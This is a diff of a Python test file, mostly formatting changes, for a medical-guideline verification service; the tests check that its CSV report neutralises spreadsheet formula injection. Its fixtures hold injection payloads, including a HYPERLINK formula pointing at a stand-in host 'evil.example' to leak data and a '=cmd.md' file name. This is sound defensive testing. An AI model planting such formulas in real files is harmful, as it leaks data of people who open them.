@@ -47,7 +47,9 @@ def _cells(text: str) -> list[list[str]]:
 
 async def test_verification_report_csv_neutralises_formulas(db: asyncpg.Pool, tmp_path: Path) -> None:
     await import_document(db, embedder(), GUIDELINE.encode(), "=cmd.md")
-    service = VerificationService(db, OfflineVerifier(GuidelineSearch(PgGuidelineStore(db, embedder()), embedder())))
+    service = VerificationService(
+        db, OfflineVerifier(GuidelineSearch(PgGuidelineStore(db, embedder()), embedder()))
+    )
     _, csv_path = await run_verify(
         service, ARTICLE.encode(), "bai.md", user_id=None, auto=True, out_dir=tmp_path, out=io.StringIO()
     )
@@ -55,7 +57,7 @@ async def test_verification_report_csv_neutralises_formulas(db: asyncpg.Pool, tm
     assert all(not cell.startswith(DANGEROUS) for row in rows for cell in row), rows
     sentences = [row[0] for row in rows[1:]]
     assert sentences == [
-        "'=HYPERLINK(\"http://evil.example/?leak\",\"Bấm vào đây\") Metformin là thuốc lựa chọn đầu tay cho "
+        '\'=HYPERLINK("http://evil.example/?leak","Bấm vào đây") Metformin là thuốc lựa chọn đầu tay cho '
         "người bệnh đái tháo đường típ 2.",
         "'+Liều khởi đầu metformin là 500 mg mỗi ngày.",
         "'@SUM(A1:A9) Người bệnh nên hoạt động thể lực ít nhất 150 phút mỗi tuần.",
@@ -73,7 +75,13 @@ def test_every_cell_of_the_report_csv_is_neutralised() -> None:
         session_status="done",
         rows=[
             ReportRow(
-                idx=i, sentence=s, section=s, is_heading=False, status="UNCLEAR", confidence=None, reasoning=s,
+                idx=i,
+                sentence=s,
+                section=s,
+                is_heading=False,
+                status="UNCLEAR",
+                confidence=None,
+                reasoning=s,
                 decision=None,
             )
             for i, s in enumerate(starts)
